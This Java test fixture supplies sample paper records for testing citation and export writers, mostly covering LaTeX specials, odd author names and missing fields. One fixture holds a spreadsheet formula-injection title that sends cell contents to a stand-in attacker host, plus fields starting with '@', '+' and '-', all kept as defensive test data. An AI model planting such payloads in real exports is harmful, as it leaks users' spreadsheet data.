package org.livesurvey.export;

import java.util.List;

import org.livesurvey.paper.PaperDetails;
import org.livesurvey.paper.PaperDetails.CategoryRef;
import org.livesurvey.paper.PaperDetails.PaperIdentifiers;
import org.livesurvey.paper.PaperDetails.PaperLinks;
import org.livesurvey.paper.TestPapers;

/** Papers that exercise every corner of the citation writers; the expected outputs live in the writer tests. */
final class ExportTestPapers {

    private ExportTestPapers() {
    }

    /** A conference paper with everything: arXiv id, DOI, links, abstract. */
    static PaperDetails dymu() {
        return TestPapers.dymu();
    }

    /** Every LaTeX special in the title, accented and particled names, a journal, a multi-line abstract. */
    static PaperDetails specials() {
        return paper("specials-in-titles", "R&D costs 100% $5 #1 a_b {set} ~ ^ \\ in LLaMA",
                List.of("Dilek Hakkani-Tür", "José van der Berg", "Martin Luther King Jr."), "2024-02",
                "Trans. Mach. Learn. Res. 2025", null, "10.1000/tmlr_{42}", "https://example.org/a_b%20c#x", null,
                "First line,\nsecond line\twith a tab.", "alignment/preference-optimization");
    }

    /** A title with LaTeX math in it, as curated from arXiv; arXiv as its venue; a one-word author. */
    static PaperDetails mathInTitle() {
        return paper("2404.12358", "From $r$ to $Q^*$: Your Language Model is Secretly a Q-Function",
                List.of("Rafailov", "Joey Hejna"), "2024-04-18", "arXiv", "2404.12358", null, null, null, null,
                "alignment");
    }

    /** Nothing but a title and a link: no authors, no date, no venue, no identifiers. */
    static PaperDetails bare() {
        return paper("synthetic-data-generation", "Synthetic Data Generation & Multi-Step RL for Tool Use",
                List.of(), null, null, null, null, "https://github.com/example/synthetic", null, null, "agents");
    }

    /** Another DyMU paper from the same first author and year: its key collides with {@link #dymu()}'s. */
    static PaperDetails dymuFollowUp() {
        return paper("dymu-2", "DyMU 2: Faster Merging", List.of("Zhenhailong Wang"), "2025", "ICLR2026",
                "2510.00001", null, null, "https://github.com/example/dymu2", null, "efficiency/token-compression");
    }

    /** An arXiv preprint whose source listed only its first authors. */
    static PaperDetails authorsCutShort() {
        return TestPapers.otc();
    }

    /** Values a spreadsheet would run as formulas. */
    static PaperDetails formulas() {
        return paper("formula-injection", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
                List.of("@Mallory Mallet", "Eve +Eavesdrop"), "2023-01-05", "-1 Workshop", null, null, null,
                null, null, "agents");
    }

    static PaperDetails paper(String id, String title, List<String> authors, String published, String venue,
                              String arxiv, String doi, String paperLink, String code, String abstractText,
                              String category) {
        return new PaperDetails(id, title, authors, false, published, null, venue, new PaperIdentifiers(arxiv, doi),
                new PaperLinks(paperLink, null, code, null, null), abstractText,
                List.of(new CategoryRef(category, category)), List.of(), null, List.of(), null, List.of(), List.of(),
                1, TestPapers.CHANGED_AT);
    }
}
